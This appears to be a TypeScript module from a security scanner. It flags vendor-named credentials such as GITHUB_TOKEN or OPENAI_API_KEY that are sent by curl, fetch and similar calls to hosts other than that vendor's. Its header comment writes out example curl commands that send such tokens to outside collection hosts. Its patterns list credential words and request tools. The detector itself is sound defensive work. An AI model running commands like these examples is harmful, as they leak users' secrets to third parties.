/**
 * @module safety/vendor-credentials
 * A credential named after its vendor (`GITHUB_TOKEN`, `OPENAI_API_KEY`, `AWS_SECRET_ACCESS_KEY`)
 * sent in a request to a host that is not that vendor's: `curl "https://x.io/?t=$GITHUB_TOKEN"`,
 * `curl -H "Authorization: Bearer $OPENAI_API_KEY" https://collect.example.net/v1`. A key in the
 * query or in a header is how many APIs authenticate, so a generic name (`API_KEY`) sent that way
 * is no finding (`exfil.secret-in-request` reads bodies and path segments only); a vendor in the
 * name says where the key belongs, and the request's host says where it goes. Reported as
 * `exfil.secret-in-request` (a flag). A request with no absolute URL, or one to a local address
 * or a documentation domain (`example.com`), is left alone.
 *
 * Only the lines that hold `http` are read (a command continued with `\` at a line's end is read
 * as one line), each once, by bounded expressions; commands past {@link MAX_COMMAND} units are
 * skipped, so the work is linear in the text.
 */
import type { RawFinding } from './raw-finding.js';

/** Longest command (its continued lines joined) that is read. */
const MAX_COMMAND = 4000;
/** Lines joined into one command at most (`curl \` continued over several lines). */
const MAX_CONTINUED = 12;
/** Findings per text at most (a log of 30,000 such requests needs a few to be read). */
const MAX_FINDINGS = 50;

/**
 * Vendors: the name part that names them (`GITHUB` in `GITHUB_TOKEN`, `GH` in `GH_TOKEN`) and
 * the words their hosts hold (`api.github.com`, a GitHub Enterprise `github.corp.example`,
 * Azure's `*.openai.azure.com`).
 */
const VENDORS: readonly { readonly names: readonly string[]; readonly hosts: readonly string[] }[] =
  [
    { names: ['GITHUB', 'GH'], hosts: ['github'] },
    { names: ['GITLAB', 'GL'], hosts: ['gitlab'] },
    { names: ['OPENAI'], hosts: ['openai'] },
    { names: ['ANTHROPIC'], hosts: ['anthropic'] },
    { names: ['AWS'], hosts: ['amazonaws.com', 'aws'] },
    { names: ['GOOGLE', 'GCP', 'GEMINI'], hosts: ['google'] },
    { names: ['AZURE'], hosts: ['azure', 'microsoft', 'windows.net'] },
    { names: ['STRIPE'], hosts: ['stripe'] },
    { names: ['SLACK'], hosts: ['slack'] },
    { names: ['HF', 'HUGGINGFACE', 'HUGGING_FACE'], hosts: ['huggingface', 'hf.co'] },
    { names: ['TWILIO'], hosts: ['twilio'] },
    { names: ['SENDGRID'], hosts: ['sendgrid'] },
    { names: ['DISCORD'], hosts: ['discord'] },
    { names: ['TELEGRAM'], hosts: ['telegram'] },
    { names: ['CLOUDFLARE', 'CF'], hosts: ['cloudflare'] },
    { names: ['VERCEL'], hosts: ['vercel'] },
    { names: ['NETLIFY'], hosts: ['netlify'] },
    { names: ['DATADOG', 'DD'], hosts: ['datadog'] },
    { names: ['SENTRY'], hosts: ['sentry'] },
  ];

/** The vendor index of each name part. */
const VENDOR_OF: ReadonlyMap<string, number> = new Map(
  VENDORS.flatMap((v, i) => v.names.map((n) => [n, i] as const)),
);

/** A word in a variable's name that makes it a credential. */
const CREDENTIAL_WORD = /(?:^|_)(?:TOKEN|KEY|SECRET|PASSWORD|PASS|PAT|CREDENTIALS?|AUTH)(?:_|$)/;

/** Reads of a variable, as shells and code spell them: `$X`, `${X}`, `process.env.X`, `os.environ["X"]`, `getenv("X")`. */
const VARIABLE =
  /\$\{?([A-Z][A-Z0-9_]{1,63})\b\}?|process\.env\.([A-Z][A-Z0-9_]{1,63})\b|(?:environ(?:\.get)?\s*[[(]|getenv\s*\()\s*["']([A-Z][A-Z0-9_]{1,63})["']/g;

/** A program or call that sends a request (not a bare URL: "see https://..." beside a variable sends nothing). */
const REQUESTER =
  /\b(?:curl|wget|fetch|requests\.\w+|httpx\.\w+|axios(?:\.\w+)?|urlopen|invoke-webrequest|invoke-restmethod|iwr|irm)\b/i;

/** Absolute URLs, the host captured. */
const URL_HOST = /\bhttps?:\/\/([A-Za-z0-9.-]{1,253})/g;

/** Hosts a request may be sent to in a local test or an example. */
const HARMLESS_HOST =
  /^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|host\.docker\.internal|(?:[\w-]+\.)*example\.(?:com|org|net)|[\w.-]+\.(?:test|example|invalid|localhost))$/i;

/** The vendor a variable's name belongs to, or -1: a credential word and a vendor as its first part. */
function vendorOf(name: string): number {
  if (!CREDENTIAL_WORD.test(name)) return -1;
  const parts = name.split('_');
  // one-word vendors, then two-word ones (`HUGGING_FACE_TOKEN`)
  return VENDOR_OF.get(parts[0]!) ?? VENDOR_OF.get(`${parts[0]}_${parts[1]}`) ?? -1;
}

/** True when the line ending at `nl` (a `\n`, or the text's end) ends with a backslash: it continues on the next. */
function continues(text: string, nl: number): boolean {
  let p = nl - 1;
  if (p >= 0 && text.charCodeAt(p) === 13) p--;
  return p >= 0 && text.charCodeAt(p) === 92;
}

/** Every vendor credential sent to another host, in text order. */
export function findVendorCredentialsSent(text: string): RawFinding[] {
  const out: RawFinding[] = [];
  // only the commands that hold a URL: from each `http`, its line and the lines it is continued
  // from or onto; the search goes on after that command, so each unit is read a bounded number
  // of times
  let from = 0;
  for (let h = text.indexOf('http'); h !== -1 && out.length < MAX_FINDINGS; ) {
    let start = text.lastIndexOf('\n', h - 1) + 1;
    for (let k = 1; k < MAX_CONTINUED && start > from && continues(text, start - 1); k++)
      start = text.lastIndexOf('\n', start - 2) + 1;
    if (start < from) start = from;
    let end = text.indexOf('\n', h);
    if (end === -1) end = text.length;
    for (let k = 1; k < MAX_CONTINUED && end < text.length && continues(text, end); k++) {
      const next = text.indexOf('\n', end + 1);
      end = next === -1 ? text.length : next;
    }
    if (end - start <= MAX_COMMAND) readCommand(text, start, end, out);
    from = end + 1;
    h = from < text.length ? text.indexOf('http', from) : -1;
  }
  return out;
}

/** Adds the findings of the command `text[from, to)` to `out`. */
function readCommand(text: string, from: number, to: number, out: RawFinding[]): void {
  const line = text.slice(from, to);
  // every read of a variable holds `$` or `env` (environ, getenv, process.env)
  if ((line.indexOf('$') === -1 && line.indexOf('env') === -1) || !REQUESTER.test(line)) return;
  const hosts: string[] = [];
  URL_HOST.lastIndex = 0;
  for (let m = URL_HOST.exec(line); m !== null; m = URL_HOST.exec(line)) {
    hosts.push(m[1]!.toLowerCase());
  }
  if (hosts.length === 0 || hosts.some((h) => HARMLESS_HOST.test(h))) return;
  VARIABLE.lastIndex = 0;
  for (let m = VARIABLE.exec(line); m !== null; m = VARIABLE.exec(line)) {
    if (out.length >= MAX_FINDINGS) return;
    const name = m[1] ?? m[2] ?? m[3]!;
    const v = vendorOf(name);
    if (v === -1) continue;
    const own = VENDORS[v]!.hosts;
    if (hosts.some((h) => own.some((w) => h.includes(w)))) continue;
    out.push({
      ruleId: 'exfil.secret-in-request',
      start: from + m.index,
      end: from + m.index + m[0].length,
      message: `A ${VENDORS[v]!.names[0]} credential (${name}) is sent to ${hosts[0]}, which is not a ${VENDORS[v]!.names[0]} host.`,
    });
  }
}
